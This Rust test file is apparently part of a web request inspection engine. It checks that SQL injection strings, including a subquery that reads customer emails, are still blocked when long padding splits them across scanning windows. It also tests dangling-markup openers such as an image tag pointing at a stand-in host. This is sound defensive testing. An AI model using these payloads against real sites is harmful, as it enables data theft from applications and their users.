//! Attacks that are wider than a window and than what two windows share: their beginning and their end are never in one.

use storeward_inspect::{HttpVersion, Policy, RequestHead, Verdict};

use crate::exchange::{ENGINE, json_string, url_encode};

const FORM: &str = "application/x-www-form-urlencoded";
const FIRST: usize = 128 * 1024;

/// As the edge shows a long body: what is read ahead, then the rest as it comes.
fn verdict(kind: &str, body: &str) -> Verdict {
    let policy = Policy::default();
    let mut tx = ENGINE.transaction(&policy);
    let headers = [("Content-Type", kind)];
    let head = RequestHead {
        method: "POST",
        path: "/",
        raw_target: b"/",
        query: None,
        host: "shop.example",
        version: HttpVersion::Http11,
        headers: &headers,
    };
    assert_eq!(tx.request_head(&head), Verdict::Pass);
    let (first, rest) = body.as_bytes().split_at(FIRST.min(body.len()));
    let (verdict, stream) = tx.request_body_begins(first);
    let mut stream = stream.unwrap();
    if verdict.is_block() {
        return verdict;
    }
    for piece in rest.chunks(10_007) {
        let verdict = stream.push(&ENGINE, &policy, piece);
        if verdict.is_block() {
            return verdict;
        }
    }
    stream.finish(&ENGINE, &policy)
}

/// One value as a field of each kind of body.
fn bodies(value: &str) -> Vec<(&'static str, String)> {
    let part = format!(
        "--BB\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{value}\r\n--BB\r\n\
         Content-Disposition: form-data; name=\"z\"\r\n\r\n1\r\n--BB--\r\n"
    );
    vec![
        (FORM, format!("a=1&q={}&z=1", url_encode(value))),
        ("application/json", format!("{{\"a\":1,\"q\":{},\"z\":1}}", json_string(value))),
        ("multipart/form-data; boundary=BB", part),
        ("text/plain", value.to_owned()),
    ]
}

#[test]
fn padding_does_not_part_an_attack() {
    for padding in [
        " ".repeat(140_000),
        format!("/*{}*/", "lovely mug ".repeat(13_000)),
        "/**/".repeat(35_000),
        format!("--{}\n", "we'd say so ".repeat(12_000)),
        "--w\n".repeat(35_000),
    ] {
        for attack in ["x' or{}slug notnull-- ", "x%' or{}(select email from customers limit 1)>'a'-- "] {
            let value = attack.replace("{}", &padding);
            for (kind, body) in bodies(&value) {
                let (start, length) = (&padding[..3], body.len());
                assert!(verdict(kind, &body).is_block(), "{kind}: {attack} with {start:?}, {length} bytes");
            }
        }
    }
}

/// Cut exactly where windows end and overlap.
#[test]
fn no_length_of_padding_parts_an_attack() {
    for length in [65_536, 65_535, 65_530, 49_152, 49_150, 81_920, 131_072, 131_060, 114_688] {
        let value = format!("x' or{}slug notnull-- {}", " ".repeat(length), "z".repeat(140_000));
        for (kind, body) in bodies(&value) {
            assert!(verdict(kind, &body).is_block(), "{kind}, {length}");
        }
    }
}

#[test]
fn long_texts_of_people_pass() {
    let prose = "It's a lovely mug, isn't it? We'd select the blue one or the red one from the list; 5' x 7' -- really.\n\
                 My kids' #1 choice & \"the best\" (of 3).\n";
    let table = "SKU-1001;Blue mug;12.50;in stock\nSKU-1002;Red mug, large;14.00;2 left\n";
    for text in
        [prose.repeat(2_000), table.repeat(4_000), format!("<p>{}</p>\n", "word ".repeat(20)).repeat(3_000)]
    {
        for (kind, body) in bodies(&text) {
            assert_eq!(verdict(kind, &body), Verdict::Pass, "{kind}: {}", &text[..20]);
        }
    }
}

#[test]
fn what_is_left_open_at_a_long_value_s_end_is_seen() {
    let words = "We have drunk from it every morning. ";
    for length in [31_000, 33_000, 60_000, 66_000, 126_000, 200_000, 400_000] {
        for open in ["<!--", "<textarea>", "<img src='//e.example/?"] {
            let value = format!("{}{open}", words.repeat(length / words.len()));
            for (kind, body) in bodies(&value) {
                assert!(verdict(kind, &body).is_block(), "{open} behind {length} bytes of {kind}");
            }
        }
    }
}

/// What hides the rest of the page stands so far before the text's end that no window holds both.
#[test]
fn what_is_left_open_far_before_a_long_value_s_end_is_seen() {
    let words = "We have drunk from it every morning. ";
    for (before, behind) in [(0, 140_000), (60_000, 66_000), (126_000, 70_000), (200_000, 200_000)] {
        for (open, closed) in
            [("<!--", "-->"), ("<textarea>", "</textarea>"), ("<img src='//e.example/?", "'>")]
        {
            let text = |middle: &str| {
                let of = |length: usize| words.repeat(length / words.len());
                format!("{}{open}{}{middle}{}", of(before), of(behind), words)
            };
            for (kind, body) in bodies(&text("")) {
                assert!(verdict(kind, &body).is_block(), "{open} {before} and {behind} bytes of {kind}");
            }
            for (kind, body) in bodies(&text(closed).replace("//e.example/?", "/mug.jpg")) {
                assert_eq!(
                    verdict(kind, &body),
                    Verdict::Pass,
                    "{open} {before} and {behind} bytes of {kind}"
                );
            }
        }
    }
}

/// The body's end may become known when all of it was read, as what goes on.
#[test]
fn an_end_that_comes_late_is_looked_at() {
    for length in [163_840, 212_992, 262_144, 163_839, 163_841] {
        for open in ["<!--", "<textarea>", "<img src='//e.example/?"] {
            for (kind, (front, back)) in
                [(FORM, ("q=", "")), ("application/json", ("{\"q\":\"", "\"}")), ("text/plain", ("", ""))]
            {
                let words = "w".repeat(length - front.len() - back.len() - open.len());
                let body = format!(
                    "{front}{words}{}{back}",
                    open.replace('=', if kind == FORM { "%3d" } else { "=" })
                );
                assert!(verdict(kind, &body).is_block(), "{open} at the end of {length} bytes of {kind}");
            }
        }
    }
}

/// White space behind the value is none of it.
#[test]
fn white_space_behind_a_value_does_not_make_it_go_on() {
    let blanks = " ".repeat(140_000);
    for (kind, body) in [
        ("application/json", format!("{{\"text\":\"hello <!--\"{blanks}}}")),
        ("application/json", format!("{{\"text\":\"hello <!--\"{blanks},\"b\":1}}")),
        ("application/xml", format!("<a text=\"hello &lt;!--\"{blanks}/>")),
    ] {
        assert!(verdict(kind, &body).is_block(), "{kind}: {}", &body[..24]);
    }
}

#[test]
fn what_is_closed_behind_a_window_s_end_is_whole() {
    // However the windows fall: a comment, a text field and a tag that are open where one ends.
    let unit = "<p>Our mugs are made by hand in a small town near the sea.</p><!-- the second paragraph comes here -->\
                <img src='/mugs/blue.jpg' alt='a blue mug'>";
    for length in [60_000, 131_000, 260_000] {
        let value = unit.repeat(length / unit.len());
        for (kind, body) in bodies(&value) {
            assert_eq!(verdict(kind, &body), Verdict::Pass, "{length} bytes of {kind}");
        }
    }
}
